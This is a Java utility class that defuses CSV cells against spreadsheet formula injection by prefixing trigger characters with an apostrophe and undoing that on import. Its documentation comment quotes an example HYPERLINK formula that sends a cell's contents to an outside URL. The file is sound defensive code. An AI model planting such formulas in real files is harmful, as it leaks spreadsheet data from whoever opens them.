package org.phare.core.text;

import java.util.regex.Pattern;

/**
 * Cells of the CSV files Phare writes, defused against formula injection (OWASP "CSV Injection"): a
 * spreadsheet runs a cell starting with {@code = + - @}, a tab or a carriage return as a formula,
 * so an organisation named {@code =HYPERLINK("http://…?d="&A1,"Cliquez")} would leak the sheet when
 * opened. Such a cell is written with a leading {@code '}, which spreadsheets show as text.
 *
 * <p>A plain number ({@code -3}, {@code +1.5e3}, {@code -0,25}) is no formula and is left alone so
 * numeric columns stay numeric. The registry import removes the added {@code '} again ({@link
 * #restore}), so an exported file imports back unchanged.
 */
public final class CsvCells {

  private CsvCells() {}

  private static final String TRIGGERS = "=+-@\t\r";
  private static final Pattern PLAIN_NUMBER =
      Pattern.compile("[-+]?[0-9]+([.,][0-9]+)?([eE][-+]?[0-9]+)?");

  /** The cell as written: {@code '} prefixed when a spreadsheet would run it as a formula. */
  public static String neutralise(String text) {
    if (text == null || text.isEmpty()) {
      return text == null ? "" : text;
    }
    if (TRIGGERS.indexOf(text.charAt(0)) < 0 || PLAIN_NUMBER.matcher(text).matches()) {
      return text;
    }
    return "'" + text;
  }

  /** Undoes {@link #neutralise} on a cell read back: {@code '=x} is {@code =x} again. */
  public static String restore(String text) {
    if (text != null
        && text.length() >= 2
        && text.charAt(0) == '\''
        && TRIGGERS.indexOf(text.charAt(1)) >= 0) {
      return text.substring(1);
    }
    return text;
  }

  /** Every cell of a record neutralised. */
  public static String[] neutralise(String... cells) {
    String[] out = new String[cells.length];
    for (int i = 0; i < cells.length; i++) {
      out[i] = neutralise(cells[i]);
    }
    return out;
  }
}
